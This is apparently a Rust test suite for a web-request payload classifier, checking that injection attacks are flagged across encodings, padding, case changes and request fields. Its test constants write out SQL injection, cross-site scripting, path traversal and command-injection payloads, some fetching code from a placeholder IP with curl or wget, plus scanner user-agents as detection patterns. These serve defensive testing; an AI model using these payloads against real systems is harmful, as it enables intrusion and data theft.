//! The payload classifier on the shared attack and benign sets, and on variations of attacks.

#[path = "../../examples/payload_data/mod.rs"]
mod data;

use haetae_detect::payload::{self, Class, FLAGGED, Parts, Verdicts};
use proptest::prelude::*;

fn is_flagged(verdicts: &Verdicts) -> bool {
    verdicts.reaches(FLAGGED)
}

fn share(flagged: usize, all: usize) -> f64 {
    flagged as f64 / all.max(1) as f64
}

#[test]
fn rule_set_attacks_are_found() {
    if data::shared().is_none() {
        eprintln!("SKIPPED: no shared data (HAETAE_SHARED)");
        return;
    }
    let cases = data::cases();
    for (family, class) in [("942", Class::Sqli), ("930", Class::Lfi), ("913", Class::Scanner)] {
        let attacks: Vec<_> = cases
            .iter()
            .filter(|case| case.family == family && case.is_attack)
            .collect();
        let found = attacks
            .iter()
            .filter(|case| payload::request(&case.request.whole()).score(class) >= FLAGGED)
            .count();
        assert!(
            share(found, attacks.len()) >= 0.9,
            "{family}: {found} of {}",
            attacks.len()
        );
    }
}

#[test]
fn benign_values_stay_benign() {
    if data::shared().is_none() {
        eprintln!("SKIPPED: no shared data (HAETAE_SHARED)");
        return;
    }
    for (set, values) in data::benign() {
        let flagged: Vec<_> = values
            .iter()
            .filter(|value| is_flagged(&payload::uri(&format!("/search?q={value}"))))
            .collect();
        let most = if set == "look-alikes" { 0.01 } else { 0.001 };
        assert!(share(flagged.len(), values.len()) <= most, "{set}: {flagged:?}");
    }
    let ordinary = data::ordinary();
    let flagged = ordinary
        .iter()
        .filter(|request| is_flagged(&payload::uri(&request.uri)))
        .count();
    assert!(
        share(flagged, ordinary.len()) <= 0.001,
        "ordinary site: {flagged}"
    );
}

#[test]
fn parameter_set_is_told_apart() {
    if data::shared().is_none() {
        eprintln!("SKIPPED: no shared data (HAETAE_SHARED)");
        return;
    }
    let (mut right, mut flagged, mut attacks) = (0, 0, 0);
    for (value, kind) in data::parameters("test")
        .into_iter()
        .filter(|(_, kind)| kind == "norm" || kind == "sqli")
    {
        let said = payload::value(&data::encoded(&value)).score(Class::Sqli) >= FLAGGED;
        flagged += usize::from(said);
        attacks += usize::from(kind == "sqli");
        right += usize::from(said && kind == "sqli");
    }
    assert!(share(right, attacks) >= 0.99, "recall: {right} of {attacks}");
    assert!(share(right, flagged) >= 0.99, "precision: {right} of {flagged}");
}

/// Published techniques, one each, written here.
const OBVIOUS: [(Class, &str); 18] = [
    (Class::Sqli, "7' or 5=5 -- "),
    (Class::Sqli, "7 union all select login, token from members"),
    (Class::Sqli, "3; drop table members"),
    (Class::Sqli, "x' and sleep(4) and 'a'='a"),
    (
        Class::Sqli,
        "1 and (select count(*) from information_schema.tables) > 3",
    ),
    (Class::Sqli, "9'); waitfor delay '0:0:9' -- "),
    (Class::Sqli, "1 and extractvalue(1, concat(0x7e, version()))"),
    (Class::Sqli, "x\" or \"b\" like \"b\" -- "),
    (Class::Xss, "<script>alert(1)</script>"),
    (Class::Xss, "\"><img src=x onerror=alert(1)>"),
    (Class::Xss, "javascript:alert(document.cookie)"),
    (Class::Lfi, "../../../../etc/passwd"),
    (Class::Lfi, "..\\..\\windows\\win.ini"),
    (Class::Lfi, "php://filter/convert.base64-encode/resource=index"),
    (Class::Rce, "x; cat /etc/hosts"),
    (Class::Rce, "$(curl http://192.0.2.7/a)"),
    (Class::Rce, "${jndi:ldap://192.0.2.7/a}"),
    (Class::Rce, "| wget http://192.0.2.7/a"),
];

fn scored(class: Class, decoded: &str) -> f32 {
    payload::value(&data::encoded(decoded)).score(class)
}

#[test]
fn obvious_attacks_are_of_their_class() {
    for (class, attack) in OBVIOUS {
        assert!(
            scored(class, attack) >= FLAGGED,
            "{class:?} {attack}: {}",
            scored(class, attack)
        );
    }
}

#[test]
fn encodings_hide_nothing() {
    let twice = |text: &str| data::encoded(text).replace('%', "%25");
    let utf16: fn(&str) -> String = |text| text.chars().map(|c| format!("%u{:04x}", u32::from(c))).collect();
    let wide: fn(&str) -> String = |text| {
        text.chars()
            .map(|c| match c {
                '!'..='~' => char::from_u32(u32::from(c) + 0xFEE0).expect("full-width forms exist"),
                other => other,
            })
            .collect()
    };
    let entities: fn(&str) -> String = |text| {
        data::encoded(
            &text
                .chars()
                .map(|c| format!("&#{};", u32::from(c)))
                .collect::<String>(),
        )
    };
    for (class, attack) in OBVIOUS {
        for raw in [
            twice(attack),
            utf16(attack),
            entities(attack),
            data::encoded(&wide(attack)),
        ] {
            let score = payload::value(&raw).score(class);
            assert!(score >= FLAGGED, "{class:?} {attack} as {raw}: {score}");
        }
    }
    assert!(
        payload::value("MScgb3IgMT0xIC0tIGFuZCBtb3Jl").reaches(FLAGGED),
        "Base64"
    );
    assert!(
        payload::uri("/static/..%c0%af..%c0%afetc/passwd").reaches(FLAGGED),
        "overlong"
    );
}

#[test]
fn padding_hides_nothing() {
    for (class, attack) in OBVIOUS {
        for padded in [
            format!("{} {attack}", "좋은 영화 추천 ".repeat(40)),
            format!("{attack} {}", "the quick brown fox ".repeat(40)),
            format!(
                "{} {attack} {}",
                "lorem ipsum dolor. ".repeat(40),
                "1, 2; 3: ".repeat(40)
            ),
        ] {
            // A traversal or scheme in mid-text is a word of its own; a bare command at the start is not.
            assert!(
                scored(class, &padded) >= FLAGGED,
                "{class:?} {padded}: {}",
                scored(class, &padded)
            );
        }
    }
}

#[test]
fn each_place_of_a_request_is_read() {
    let attack = "7' or 5=5 -- ";
    let encoded = data::encoded(attack);
    let json = format!("{{\"a\": [{{\"b\": \"{attack}\"}}]}}");
    let xml = format!("<?xml version=\"1.0\"?><r><i a=\"{attack}\">x</i></r>");
    let text = format!("<r>{attack}</r>");
    let multipart =
        format!("--bound\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{attack}\r\n--bound--\r\n");
    let form = format!("a=1&b={encoded}");
    let bodies: [(Option<&str>, &str); 5] = [
        (Some("application/json"), &json),
        (Some("text/xml; charset=utf-8"), &xml),
        (Some("application/xml"), &text),
        (Some("multipart/form-data; boundary=bound"), &multipart),
        (None, &form),
    ];
    for (content_type, body) in bodies {
        let parts = Parts {
            uri: "/",
            content_type,
            body: Some(body.as_bytes()),
            ..Parts::default()
        };
        assert!(payload::request(&parts).score(Class::Sqli) >= FLAGGED, "{body}");
    }
    let cookie = format!("sid=1; a={encoded}");
    let referer = format!("https://shop.example/list?id={encoded}");
    let path = format!("/list/{encoded}/more");
    for parts in [
        Parts {
            uri: &path,
            ..Parts::default()
        },
        Parts {
            uri: "/",
            cookie: Some(&cookie),
            ..Parts::default()
        },
        Parts {
            uri: "/",
            referer: Some(&referer),
            ..Parts::default()
        },
        Parts {
            uri: "/",
            agent: Some(attack),
            ..Parts::default()
        },
        Parts {
            uri: "/",
            headers: vec![("X-Forwarded-For", attack)],
            ..Parts::default()
        },
    ] {
        assert!(
            payload::request(&parts).score(Class::Sqli) >= FLAGGED,
            "{parts:?}"
        );
    }
}

#[test]
fn korean_bytes_make_no_quotes() {
    // CP949, whose second bytes may be ASCII letters; and half of a pair before a real quote.
    assert!(!payload::uri("/s?q=%8CcB%94%EE%C0%A7+%BE%C6%B7%A1").reaches(0.2));
    assert!(!payload::uri("/s?q=%EC%84%9C%EC%9A%B8+%27%EB%A7%9B%EC%A7%91%27").reaches(FLAGGED));
    assert!(!payload::uri("/board/etc/list.do?page=2").reaches(FLAGGED));
}

#[test]
fn agents_of_scanners_are_known_and_of_others_not() {
    let score = |agent: &str| {
        let parts = Parts {
            uri: "/",
            agent: Some(agent),
            ..Parts::default()
        };
        payload::request(&parts)
            .worst()
            .map_or(0.0, |verdict| verdict.score)
    };
    for agent in [
        "sqlmap/1.8",
        "Mozilla/5.0 Nuclei - Open-source project",
        "gobuster/3.6",
    ] {
        assert!(score(agent) >= FLAGGED, "{agent}");
    }
    for agent in [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; .NET CLR 2.0.50727; .NET CLR 3.5.30729; .NET4.0C)",
        "curl/8.9.1",
        "python-requests/2.32.3",
        "Mozilla/5.0 (compatible; Yeti/1.1; +https://naver.me/spd)",
        "Hydrangea-Reader/2.0",
    ] {
        assert!(score(agent) < FLAGGED, "{agent}: {}", score(agent));
    }
}

/// The attack with its words in another case, its white space as other white space.
fn varied(attack: &str, flips: &[bool], space: &str) -> String {
    let mut flips = flips.iter().cycle();
    attack
        .chars()
        .map(|c| match c {
            ' ' => space.to_owned(),
            c if *flips.next().unwrap_or(&false) => c.to_ascii_uppercase().to_string(),
            c => c.to_string(),
        })
        .collect()
}

proptest! {
    #[test]
    fn any_text_is_judged(text in "\\PC{0,200}", bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        for verdict in payload::uri(&text).all() {
            prop_assert!((0.0..=1.0).contains(&verdict.score));
        }
        let raw: String = bytes.iter().map(|b| format!("%{b:02x}")).collect();
        payload::value(&raw);
        for content_type in [None, Some("application/json"), Some("text/xml"), Some("multipart/form-data; boundary=x")] {
            payload::request(&Parts { uri: &text, agent: Some(&text), cookie: Some(&text), referer: Some(&text), content_type, body: Some(&bytes), ..Parts::default() });
        }
    }

    #[test]
    fn signs_of_syntax_are_judged(text in "[-'\"`()/*;<>=&|#%@!.\\\\${}:,a-z0-9 \u{c0}\u{ac00}\u{ff07}]{0,300}") {
        payload::uri(&text);
        payload::request(&Parts { uri: &text, body: Some(text.as_bytes()), ..Parts::default() });
    }

    #[test]
    fn case_white_space_and_comments_hide_no_injection(
        at in 0..8usize,
        flips in prop::collection::vec(any::<bool>(), 1..40),
        space in prop::sample::select(vec![" ", "  ", "\t", "\n", "\r\n", "\u{a0}", "/**/", "/*x*/", " /* two words */ "]),
    ) {
        let (class, attack) = OBVIOUS[at];
        let varied = varied(attack, &flips, space);
        prop_assert!(scored(class, &varied) >= FLAGGED, "{varied:?}: {}", scored(class, &varied));
        let plain = varied.replace(space, " ").to_lowercase();
        if space.trim().is_empty() {
            prop_assert_eq!(scored(class, &varied), scored(class, &plain));
        }
    }

    #[test]
    fn judging_what_is_decoded_changes_nothing(text in "[-'\"()=a-z0-9 ]{0,60}") {
        // Text without `%`, `+` or `&` is its own decoding.
        let once = haetae_event::decode::attack_text(&text).into_owned();
        prop_assert_eq!(haetae_event::decode::attack_text(&once), once.as_str());
        prop_assert_eq!(payload::value(&text).score(Class::Sqli), scored(Class::Sqli, &text));
    }
}
